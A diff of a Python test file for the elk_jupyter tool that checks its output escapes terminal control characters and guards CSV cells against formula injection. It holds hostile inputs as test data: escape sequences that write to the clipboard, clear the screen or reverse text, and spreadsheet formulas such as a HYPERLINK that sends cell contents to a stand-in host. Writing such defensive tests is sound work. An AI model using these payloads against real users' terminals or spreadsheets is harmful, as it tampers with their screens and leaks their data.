@@ -19,11 +19,9 @@ from elk_jupyter.cli.main import main
 from elk_jupyter.conversation import lineage, session
 from elk_jupyter.conversation.session import Turn
 from elk_jupyter.errors import APIError, HistoryError
-from elk_jupyter.experiments import runner
 from elk_jupyter.gateway.events import Done, Started, TextDelta, UsageReport
 from elk_jupyter.gateway.reply import Reply
 from elk_jupyter.records import turn as record
-from elk_jupyter.records.cache import Cache, Replays
 from tests.scripted_server import Script
 
 HOSTILE = "\x1b]52;c;aGVsbG8=\x07 clip \x1b[2J clear \x1b]0;title\x07 \x9b31m red \x07 bell \r over \u202eevil \x7f"
@@ -69,10 +67,7 @@ def saved(path, turns, extra_outputs=()) -> str:
 def hostile_notebook(tmp_path, gateway, monkeypatch):
     first = turn(1, None, text=HOSTILE, conversation=f"evil{HOSTILE}", model=f"m{HOSTILE}")
     second = turn(2, first.id, text="ok " + HOSTILE, conversation=first.conversation, model=f"m{HOSTILE}")
-    monkeypatch.setattr(runner, "FINISHED", {})
-    import elk_jupyter.experiments as experiments
-
-    monkeypatch.setattr(experiments, "_REPLAYS", Replays(Cache(tmp_path / "cache.sqlite3")))
+    monkeypatch.setenv("ELK_CACHE_DIR", str(tmp_path / "cache"))
     client = Client(KEY, base_url=gateway.base_url, model="m1")
     outputs = []
     for name in (f"one{HOSTILE}", f"two{HOSTILE}"):
@@ -108,7 +103,7 @@ def test_every_command_escapes_control_characters(hostile_notebook, capsys):
 
 
 def test_csv_export_guards_formula_cells(gateway, tmp_path, monkeypatch):
-    monkeypatch.setattr(runner, "FINISHED", {})
+    monkeypatch.setenv("ELK_CACHE_DIR", str(tmp_path / "cache"))
     outputs = ['=HYPERLINK("https://x/?d="&C2,"")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "=WEBSERVICE(1)", "plain"]
     for text in outputs:
         gateway.plan(text=text)
